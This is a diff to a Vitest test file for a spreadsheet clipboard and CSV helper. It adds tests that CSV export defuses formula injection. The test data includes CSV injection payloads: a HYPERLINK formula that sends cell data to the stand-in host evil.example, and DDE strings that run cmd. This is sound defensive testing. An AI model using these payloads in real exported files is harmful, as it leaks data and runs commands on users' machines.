@@ -1,6 +1,6 @@
 // Text copied from Excel or WPS arrives tab-separated; cells with line breaks come quoted.
 import { describe, expect, it } from 'vitest';
-import { parseTsv, toCsv, toHtmlTable, toTsv } from '../../shared/format/tsv';
+import { neutralizeFormula, parseTsv, toCsv, toHtmlTable, toTsv } from '../../shared/format/tsv';
 
 describe('clipboard text from a spreadsheet', () => {
   it('splits rows and cells and ignores the last line break', () => {
@@ -25,6 +25,27 @@ describe('CSV for Excel', () => {
         ['张三', '说了"好",很好'],
       ]),
     ).toBe('\uFEFF姓名,备注\r\n张三,"说了""好"",很好"\r\n');
+  });
+});
+
+describe('CSV cells Excel or WPS would run as formulas', () => {
+  it('open as the text they were: = + - @ tab and CR at the start get an apostrophe; plain numbers stay numbers', () => {
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const csv = toCsv([attacks, ['-5', '+3.5', '12', '张三 = 李四']]);
+    const lines = csv.slice(1).split('\r\n');
+    expect(lines[0]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""详情"")",'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,` +
+        `'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'\r=1+1"`,
+    );
+    expect(lines[1]).toBe('-5,+3.5,12,张三 = 李四');
+    expect(neutralizeFormula('＝全角等号')).toBe('＝全角等号');
   });
 });
 
